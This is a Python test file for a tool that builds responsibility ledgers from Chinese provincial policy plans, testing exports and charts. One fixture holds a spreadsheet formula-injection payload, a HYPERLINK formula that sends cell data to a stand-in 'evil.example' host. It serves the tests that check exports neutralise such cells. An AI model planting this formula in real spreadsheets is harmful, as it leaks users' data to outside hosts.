"""Responsibility ledger (issue 9): rows, targets, per-department view, exports and chart.

Documents are parsed with the real loader and parser; the CLI reads them from a real index
written in a tmp dir (documents only: the ledger needs no vectors).
"""

from __future__ import annotations

import json
import zipfile
from pathlib import Path

import pytest

from app.testing import SEED_DEPARTMENTS, SEED_TARGET_VALUES
from click.testing import CliRunner

from app.cli import cli
from app.ledger import (MEASURE_COLUMNS, NOT_STATED, TARGET_COLUMNS, LedgerError, build_ledger, department_view,
                        ledger_table, measure_record, select_documents, target_records)
from app.ledger_chart import BUNDLED_FONT, cjk_font, department_matrix, matrix_figure
from app.ledger_export import export_ledger, ledger_json, read_csv
from matplotlib.ft2font import FT2Font
from ingest.document import parse_document
from ingest.loaders import load_file
from ingest.types import ClauseKind, Document

ROOT = Path(__file__).resolve().parents[2]
SEED = ROOT / "data" / "corpus" / "shandong-2022-digital-economy-action-plan.txt"
_FULL_WIDTH = str.maketrans({",": "，", "(": "（", ")": "）", ":": "：", ";": "；"})
WORK_PLAN = """河川省制造业数字化转型2024年工作方案

一、主要目标

到2024年底,全省新培育智能工厂50个,规模以上工业企业数字化转型覆盖率达到80%。

二、重点任务

(一)推进智能制造

1.培育示范工厂。对新认定的国家级智能制造示范工厂,给予一次性奖励500万元。

责任单位:省工信厅(牵头),省财政厅

2.实施技术改造。对设备投资额在500万元以上的技术改造项目,按设备投资额的10%给予补助,最高不超过1000万元。全年实施技术改造项目不少于200个,带动投资30亿元。

牵头单位:省工业和信息化厅;配合单位:省财政厅、省发展改革委

(二)提升数据管理能力

1.推进贯标。

(1)全年推动100家企业开展DCMM贯标。

(2)对首次通过DCMM三级及以上评估的企业,给予一次性奖励30万元。

责任单位:省大数据局(牵头),省工业和信息化厅

2.加强宣传推广。组织开展数字化转型宣传活动。

三、保障措施

(一)加强监测评估。每季度开展一次重点指标监测。

责任单位:省工业和信息化厅
""".translate(_FULL_WIDTH)

@pytest.fixture(scope="module")
def seed() -> Document:
    return parse_document(load_file(SEED))


@pytest.fixture(scope="module")
def plan(tmp_path_factory) -> Document:
    path = tmp_path_factory.mktemp("docs") / "hechuan-plan.txt"
    path.write_text(WORK_PLAN, encoding="utf-8")
    return parse_document(load_file(path))


@pytest.fixture(scope="module")
def index_dir(tmp_path_factory, seed, plan) -> Path:
    from vectorstore.index import open_location

    root = tmp_path_factory.mktemp("index")
    with open_location(root, None).write() as snap:
        snap.docs().put(seed)
        snap.docs().put(plan)
    return root


# ---- the bundled document ------------------------------------------------------------------

def test_seed_has_22_measure_rows_with_departments_as_written(seed) -> None:
    rows = build_ledger([seed]).rows
    assert [r.number for r in rows] == [str(n) for n in range(1, 23)]
    assert {int(r.number): [d.name for d in r.departments] for r in rows} == SEED_DEPARTMENTS
    # "…按分工负责" names no lead/partner split: nothing is guessed
    assert all(not r.lead and not r.partners for r in rows)
    assert rows[7].departments_display == "省工业和信息化厅、省大数据局"
    assert rows[7].ref == "第8条「完善数据要素供给体系」"


def test_seed_targets_are_every_target_verbatim(seed) -> None:
    ledger = build_ledger([seed])
    by_measure: dict[int, list[str]] = {}
    for t in ledger.targets:
        by_measure.setdefault(int(t.number), []).append(t.value)
        assert t.value in t.sentence and t.sentence in seed.text
    for n, values in SEED_TARGET_VALUES.items():
        assert by_measure[n][:len(values)] == values, n
    facts = [t.value for c in seed.clauses if c.kind == ClauseKind.ARTICLE for t in c.facts.targets]
    assert [t.value for t in ledger.targets] == facts  # the plan's incentives state no amounts to leave out
    software = next(t for t in ledger.targets if t.value == "8500亿元")
    assert (software.indicator, software.deadline) == ("软件业务收入", "2022年底")


@pytest.mark.parametrize("name, numbers, shown", [
    ("省大数据局", ["8", "9", "12", "20", "22"], ("省大数据局",)),
    ("大数据局", ["8", "9", "12", "20", "22"], ("省大数据局",)),
    ("工信厅", [str(n) for n in range(1, 23) if n != 7], ("省工业和信息化厅",)),
    ("省通管局", ["3", "4", "11", "13"], ("省通信管理局",)),
    ("市大数据局", [], ()),
])
def test_department_view_uses_the_alias_table(seed, name, numbers, shown) -> None:
    view = department_view(build_ledger([seed]), name)
    assert [r.number for r in view.rows] == numbers
    assert view.names == shown


def test_department_view_of_big_data_bureau_lists_its_targets(seed) -> None:
    view = department_view(build_ledger([seed]), "省大数据局")
    assert set(view.roles) == {"responsible"}
    assert [t.value for t in view.targets if t.number == "12"] == ["2个", "5个", "20个", "60个", "25万个"]


def test_department_name_is_required(seed) -> None:
    with pytest.raises(LedgerError, match="请提供部门名称"):
        department_view(build_ledger([seed]), " ")


# ---- another layout ------------------------------------------------------------------------

def test_work_plan_gives_lead_and_partner_split(plan) -> None:
    rows = {r.number: r for r in build_ledger([plan]).rows}
    assert list(rows) == ["一", "二（一）1", "二（一）2", "二（二）1", "二（二）2", "三（一）"]
    assert (rows["二（一）1"].lead, rows["二（一）1"].partners) == (("省工信厅",), ("省财政厅",))
    assert (rows["二（一）2"].lead, rows["二（一）2"].partners) == (("省工业和信息化厅",), ("省财政厅", "省发展改革委"))
    # the 责任单位 line after item (2) is the task's line
    assert (rows["二（二）1"].lead, rows["二（二）1"].partners) == (("省大数据局",), ("省工业和信息化厅",))
    assert rows["二（二）2"].departments == () and rows["二（二）2"].departments_display == NOT_STATED
    assert rows["三（一）"].responsible == ("省工业和信息化厅",)


def test_work_plan_targets_leave_incentive_amounts_out(plan) -> None:
    rows = {r.number: r for r in build_ledger([plan]).rows}
    assert [t.value for t in rows["一"].targets] == ["50个", "80%"]
    assert [t.value for t in rows["二（一）1"].targets] == []  # 500万元 is an award, not a target
    assert [t.value for t in rows["二（一）2"].targets] == ["200个", "30亿元"]  # not 500万元, 10%, 1000万元
    assert [t.value for t in rows["二（二）1"].targets] == ["100家"]  # from item (1); 30万元 is an award
    assert rows["二（一）2"].incentives == ("设备投资额在500万元以上的技术改造项目→补助(10%),最高不超过1000万元",)


def test_a_part_with_its_own_target_is_a_row_beside_its_tasks(tmp_path) -> None:
    """"(一)…到2024年底,建成数据中心3个。" followed by "1." tasks: the part's own target is kept
    (once), and the tasks stay rows of their own."""
    path = tmp_path / "points.txt"
    path.write_text("某市数据工作要点\n\n一、工作任务\n\n(一)夯实数据基础设施。到2024年底,建成数据中心3个。\n\n"
                    "1.建设算力平台。新增算力规模100P。责任单位:市大数据局\n\n2.推进数据共享。组织开展共享评估。\n",
                    encoding="utf-8")
    rows = build_ledger([parse_document(load_file(path))]).rows
    assert [(r.number, [t.value for t in r.targets], r.departments_display) for r in rows] == [
        ("(一)", ["3个"], NOT_STATED), ("(一)1", [], "市大数据局"), ("(一)2", [], NOT_STATED)]


def test_alias_finds_each_spelling_and_shows_the_documents_own(plan) -> None:
    view = department_view(build_ledger([plan]), "工信厅")
    assert view.names == ("省工信厅", "省工业和信息化厅")
    assert [r.number for r in view.rows] == ["二（一）1", "二（一）2", "二（二）1", "三（一）"]
    assert view.roles == ("lead", "lead", "partner", "responsible")


def test_ledger_table_filters(seed, plan) -> None:
    all_rows = ledger_table([seed, plan])
    assert len(all_rows) == 22 + 6 and list(all_rows[0]) == list(MEASURE_COLUMNS)
    with_targets = ledger_table([seed, plan], only_targets=True)
    assert all(r["量化目标"] for r in with_targets)
    numbers = {(r["文件"][:2], r["编号"]) for r in with_targets}
    assert {n for d, n in numbers if d == "河川"} == {"一", "二（一）2", "二（二）1"}
    assert {int(n) for d, n in numbers if d == "山东"} >= set(SEED_TARGET_VALUES)
    assert not {int(n) for d, n in numbers if d == "山东"} & {7, 9, 10, 17, 18, 20}
    assert [r["编号"] for r in ledger_table([seed, plan], department="大数据局")] == ["8", "9", "12", "20", "22",
                                                                                 "二（二）1"]


# ---- export --------------------------------------------------------------------------------

def test_xlsx_holds_the_same_rows(seed, plan, tmp_path) -> None:
    import openpyxl

    written = export_ledger([seed, plan], "xlsx", tmp_path / "台账.xlsx")
    assert [p.name for p in written] == ["台账.xlsx", "台账_matrix.png"]
    assert written[1].read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    wb = openpyxl.load_workbook(written[0])
    assert wb.sheetnames == ["措施", "目标", "部门汇总", "矩阵"]
    ledger = build_ledger([seed, plan])

    def cells(ws):
        return [["" if v is None else str(v) for v in row] for row in ws.iter_rows(values_only=True)]

    assert cells(wb["措施"]) == [list(MEASURE_COLUMNS)] + [list(measure_record(r).values()) for r in ledger.rows]
    assert cells(wb["目标"]) == [list(TARGET_COLUMNS)] + [list(rec.values()) for r in ledger.rows
                                                         for rec in target_records(r)]
    for ws in (wb["措施"], wb["目标"], wb["部门汇总"]):
        assert ws.freeze_panes == "A2"
        assert 6 <= ws.column_dimensions["A"].width <= 60
    assert wb["措施"].column_dimensions["B"].width < wb["措施"].column_dimensions["I"].width
    summary = {row[1]: row for row in cells(wb["部门汇总"])[1:] if row[0].startswith("山东")}
    assert summary["省大数据局"][5] == "8、9、12、20、22"


def test_csv_round_trips_with_bom(seed, plan, tmp_path) -> None:
    written = export_ledger([seed, plan], "csv", tmp_path / "ledger.csv", chart=False)
    assert [p.name for p in written] == ["ledger.csv", "ledger_targets.csv", "ledger_departments.csv"]
    assert written[0].read_bytes()[:3] == b"\xef\xbb\xbf"
    ledger = build_ledger([seed, plan])
    assert read_csv(written[0]) == [measure_record(r) for r in ledger.rows]
    assert read_csv(written[1]) == [rec for r in ledger.rows for rec in target_records(r)]


FORMULA_PLAN = """=HYPERLINK("http://evil.example/?"&A1,"点击查看")测试工作方案

一、重点任务

1.@SUM(1+1)建设测试平台。2023年底前建成测试平台不少于5个。(市测试局负责)

2.+培育测试场景。遴选一批示范项目。(-市大数据局、市科技局按分工负责)
"""


@pytest.fixture
def formula_plan() -> Document:
    from ingest.loaders import load_bytes

    return parse_document(load_bytes(FORMULA_PLAN.encode("utf-8"), "formula-plan.txt"))


def test_xlsx_cells_that_look_like_formulas_are_text(formula_plan, tmp_path) -> None:
    """Issue 19: a title or measure "=HYPERLINK(…)" was written as a live formula (a link that sends
    the sheet's data away). Every cell is a string, shown exactly as the document writes it."""
    import openpyxl

    written = export_ledger([formula_plan], "xlsx", tmp_path / "f.xlsx", chart=False)
    with zipfile.ZipFile(written[0]) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets and not any("<f>" in xml or "<f " in xml for xml in sheets)
    wb = openpyxl.load_workbook(written[0])
    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    values = {c.value for c in cells}
    assert formula_plan.title in values and "@SUM(1+1)建设测试平台" in values and "-市大数据局、市科技局" in values


def test_csv_cells_that_look_like_formulas_get_an_apostrophe(formula_plan, tmp_path) -> None:
    """OWASP CSV injection: a cell starting with = + - @ (or tab, CR) is prefixed with ' so that
    spreadsheets show it as text; read_csv gives the values back as written."""
    import csv as csv_module

    written = export_ledger([formula_plan], "csv", tmp_path / "f.csv", chart=False)
    raw = [cell for path in written for row in csv_module.reader(path.read_text(encoding="utf-8-sig").splitlines())
           for cell in row]
    assert "'" + formula_plan.title in raw and "'@SUM(1+1)建设测试平台" in raw and "'+培育测试场景" in raw
    assert "'-市大数据局、市科技局" in raw
    assert not [cell for cell in raw if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    ledger = build_ledger([formula_plan])
    assert read_csv(written[0]) == [measure_record(r) for r in ledger.rows]


def test_json_export_of_one_department(seed, tmp_path) -> None:
    written = export_ledger([seed], "json", tmp_path / "d.json", department="大数据局", chart=False)
    data = json.loads(written[0].read_text(encoding="utf-8"))
    assert [m["number"] for m in data["measures"]] == ["8", "9", "12", "20", "22"]
    assert data == ledger_json([seed], department="大数据局")


def test_unknown_format_is_refused(seed, tmp_path) -> None:
    with pytest.raises(LedgerError, match="不支持的导出格式"):
        export_ledger([seed], "pdf", tmp_path / "x.pdf")


# ---- chart ---------------------------------------------------------------------------------

def test_matrix_and_chart(plan) -> None:
    rows = build_ledger([plan]).rows
    m = department_matrix(rows)
    assert m.departments[0] == "省工信厅"  # busiest first, the document's first spelling
    assert m.measures == tuple(r.number for r in rows)
    col = m.measures.index("二（二）1")
    assert m.cells[m.departments.index("省大数据局")][col] == "lead"
    assert m.cells[m.departments.index("省工信厅")][col] == "partner"
    fig = matrix_figure(rows, "河川")
    assert [t.get_text() for t in fig.axes[0].get_yticklabels()] == list(m.departments)


def test_chart_legend_names_only_the_roles_that_occur(seed, plan) -> None:
    """Issue 18: the bundled plan says 按分工负责 everywhere, so its legend listed 牵头/配合 for nothing."""
    legend = lambda doc: [t.get_text() for t in matrix_figure(build_ledger([doc]).rows).axes[0].get_legend().get_texts()]
    assert legend(seed) == ["负责(未分牵头/配合)"]
    assert legend(plan) == ["牵头", "配合", "负责(未分牵头/配合)"]


def test_chart_font_is_bundled(plan) -> None:
    """The chart draws with the font shipped in app/fonts, not a system font (issue 17: on a fresh
    machine without fonts-wqy-zenhei the chart found no CJK font), and that font has a glyph for
    every character the chart writes: department names, marks, legend and axis label."""
    font = cjk_font()
    assert Path(font.get_file()) == BUNDLED_FONT and BUNDLED_FONT.stat().st_size < 2_000_000
    m = department_matrix(build_ledger([plan]).rows)
    text = "".join(m.departments) + "配责牵牵头配合负责(未分牵头/配合)措施编号所选措施未写明责任部门河川"
    charmap = FT2Font(str(BUNDLED_FONT)).get_charmap()
    assert [c for c in text if ord(c) not in charmap] == []


# ---- documents and CLI -----------------------------------------------------------------------

def test_select_documents(seed, plan) -> None:
    assert select_documents([seed, plan], "河川") == [plan]
    assert select_documents([seed, plan], None) == [seed, plan]
    with pytest.raises(LedgerError, match="未找到文档:无此文件"):
        select_documents([seed, plan], "无此文件")
    with pytest.raises(LedgerError, match="请先运行 policyqa ingest"):
        select_documents([], None)


@pytest.mark.parametrize("fmt", ["xlsx", "csv", "json"])
def test_cli_ledger_exports(index_dir, tmp_path, fmt) -> None:
    out = tmp_path / f"ledger.{fmt}"
    result = CliRunner().invoke(cli, ["ledger", "山东", "--department", "省大数据局", "-o", str(out),
                                      "--index", str(index_dir)])
    assert result.exit_code == 0, result.output
    assert out.exists() and (tmp_path / "ledger_matrix.png").exists()
    assert f"已写出 {out}" in result.output


def test_cli_ledger_prints(index_dir) -> None:
    runner = CliRunner()
    result = runner.invoke(cli, ["ledger", "河川", "--index", str(index_dir)])
    assert result.exit_code == 0, result.output
    assert "二（二）2 加强宣传推广\n    责任部门: 未写明" in result.output
    result = runner.invoke(cli, ["ledger", "山东", "-d", "大数据局", "--format", "json", "--index", str(index_dir)])
    assert [m["number"] for m in json.loads(result.output)["measures"]] == ["8", "9", "12", "20", "22"]
    result = runner.invoke(cli, ["ledger", "无此文件", "--index", str(index_dir)])
    assert result.exit_code == 1 and "未找到文档:无此文件" in result.output
